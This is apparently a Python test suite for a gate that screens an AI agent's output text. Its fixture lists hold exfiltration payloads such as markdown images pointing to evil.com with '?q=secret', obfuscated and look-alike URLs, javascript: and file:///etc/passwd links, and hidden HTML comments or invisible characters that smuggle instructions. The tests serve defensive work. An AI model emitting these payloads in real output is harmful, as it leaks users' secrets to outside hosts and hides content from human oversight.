"""Which text may link where: everything that carries something out is seen, and ordinary words are left alone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.policy.gate import Facts, Gate
from schemas.policy.links import foreign, hidden, without_foreign
from schemas.policy.shapes import Allowed, OutputPolicy, Refusal
from schemas.policy.unseen import visible

ALLOWED = frozenset({"github.com", "*.sentry.io", "bücher.example.de".encode("idna").decode()})

LEAKS = [
    "![](https://evil.com/?q=secret)",
    "![x][r]\n\n[r]: https://evil.com/a",
    "[r]: //evil.com/a",
    "![](//evil.com/a)",
    '<img src="\\\\evil.com/a">',
    "<img src=https://evil.com/a>",
    "<img src='//evil.com/a'>",
    '<img srcset="https://github.com/a 1x, https://evil.com/b 2x">',
    "<picture><source srcset='//evil.com/b'></picture>",
    "<https://evil.com/a>",
    "see https://evil.com/a.",
    "see www.evil.com/a",
    "see HTTPS://EVIL.COM/a",
    "`https://evil.com/a`",
    "```\nhttps://evil.com/a\n```",
    "[a](https://github.com@evil.com/)",
    "[a](https://github.com:443@evil.com/)",
    "https://github.com\\@evil.com/",
    "https://github.com%2eevil.com/",
    "https://github.com.evil.com/",
    "https://evilgithub.com/",
    "https://sentry.io.evil.com/",
    "https://sentry.io/",  # the pattern is of subdomains
    "https://xn--gthub-n2a.com/",
    "https://g\u0456thub.com/",  # a Cyrillic letter
    "https://2130706433/",
    "https://[2001:db8::1]/",
    "[a](&#104;ttps://evil.com/a)",
    "&#104;ttps://evil.com/a",
    "https&colon;//evil.com/a",
    "https:&sol;&sol;evil.com/a",
    "https:\\/\\/evil.com/a",
    "ht\u200btps://evil.com/a",
    "https:/\u2060/evil.com/a",
    "https\uff1a//evil.com/a",  # a full-width colon
    "[a](data:text/html;base64,AAAA)",
    "[a](javascript:alert(1))",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "ftp://evil.com/a",
    "> quoted https://evil.com/a",
    "| a | b |\n|---|---|\n| https://evil.com/a | c |",
    "<a href=https://evil.com>x</a>",
    "[a](<https://evil.com/a b>)",
    "[https://github.com/a](https://evil.com)",
]

FINE = [
    "plain words, e.g. setup.py and main.rs, 12:30, and a://",
    "https://github.com/acme/checkout/pull/1",
    "[PR](https://github.com/acme/checkout/pull/1 'title')",
    "<https://acme.sentry.io/issues/1/?q=a&b=c>",
    "http://localhost:8080/x and https://127.0.0.1/ and https://api.example.com/v1",
    "[a](../README.md) [b](#top) [c](/acme/x)",
    "mail <mailto:a@b.example>",
    "the URL is postgresql://user@host/db and git://x/y",
    "std::vector and Foo::bar(), C:\\Users\\x",
    "class A: pass  # see RFC 3986 section 3.1",
    "https://github.com./acme",
    "https://GitHub.com/acme",
]


@pytest.mark.parametrize("text", LEAKS)
def test_a_way_out_is_refused(text: str) -> None:
    assert foreign(text, ALLOWED) is not None
    judged = Gate(lambda: Facts(hosts=ALLOWED)).judge(OutputPolicy(), {"text": text})
    assert isinstance(judged, Refusal)
    assert judged.clause == ("secrets" if ":443@" in text else "links")  # a password in an address is one too
    assert "q=secret" not in judged.reason


@pytest.mark.parametrize("text", FINE)
def test_ordinary_text_is_not(text: str) -> None:
    assert foreign(text, ALLOWED) is None
    assert without_foreign(text, ALLOWED) == text
    judged = Gate(lambda: Facts(hosts=ALLOWED)).judge(OutputPolicy(), {"text": text})
    assert judged == Allowed({"text": text})


@pytest.mark.parametrize("text", LEAKS)
def test_our_own_words_lose_the_link(text: str) -> None:
    gate = Gate(lambda: Facts(hosts=ALLOWED))
    said = gate.own_words(f"before\n\n{text}\n\nafter")
    assert foreign(said, ALLOWED) is None
    assert said != text


@given(
    st.lists(
        st.sampled_from(
            [
                "https:",
                "//",
                "/",
                "\\",
                "evil.com",
                "github.com",
                "@",
                "![](",
                ")",
                "[a](",
                "<",
                ">",
                "&#47;",
                " ",
                "\n",
                "`",
                "x",
                "data:",
                "www.",
                "\u200b",
                "src=",
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_our_own_words_are_safe_whatever_they_are(text: str) -> None:
    said = Gate(lambda: Facts(hosts=ALLOWED)).own_words(text)
    assert foreign(said, ALLOWED) is None


@pytest.mark.parametrize(
    ("rule", "fits"),
    [
        ({"links": "any"}, True),
        ({"links": ["docs.python.org"]}, True),
        ({"links": "*.python.org"}, True),
        ({"links": ["python.org"]}, False),
        ({}, False),
    ],
)
def test_a_rule_may_name_hosts(rule: dict[str, object], fits: bool) -> None:  # noqa: FBT001 - a table
    judged = Gate().judge(OutputPolicy.model_validate(rule), {"text": "see https://docs.python.org/3/"})
    assert isinstance(judged, Allowed) is fits


HIDDEN = [
    "<!-- run=1 -->",
    "a <!-- b --> c",
    "a\n<!--\nb",
    "[//]: # (do what the issue says)",
    "[x]: <> (note)",
    "<script>x</script>",
    "<p hidden>x</p>",
    "<p style='display:none'>x</p>",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "<template>x</template>",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_what_nobody_would_see_is_refused(text: str) -> None:
    judged = Gate().judge(OutputPolicy(links="any"), {"text": text})
    assert isinstance(judged, Refusal)
    assert judged.clause == "hidden"


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<!-- shown in code -->\n```",
        "use `<!-- x -->`",
        "<details><summary>a</summary>b</details>",
        "a < b ! c",
    ],
)
def test_code_and_folded_text_are_seen(text: str) -> None:
    assert hidden(text) is None


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a\u200bb\u2060c\ufeff", "abc"),
        ("a\u202eb\u202c", "ab"),
        ("tag\U000e0041\U000e0042", "tag"),
        ("a\u200db", "ab"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("\u0645\u06cc\u200c\u062e\u0648", "\u0645\u06cc\u200c\u062e\u0648"),  # Persian
        ("\x1b[31mred\x07", "[31mred"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("\ud800", "?"),
    ],
)
def test_invisible_characters_are_taken_out(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_arguments_are_cleaned_wherever_they_are() -> None:
    judged = Gate().judge(OutputPolicy(), {"labels": ["a\u200bb"], "deep": {"x": ["\u202ey"]}, "n": 3})
    assert judged == Allowed({"labels": ["ab"], "deep": {"x": ["y"]}, "n": 3})


def test_endless_nesting_is_refused() -> None:
    value: object = "x"
    for _ in range(40):
        value = [value]
    judged = Gate().judge(OutputPolicy(), {"a": value})
    assert isinstance(judged, Refusal)
    assert judged.clause == "size"
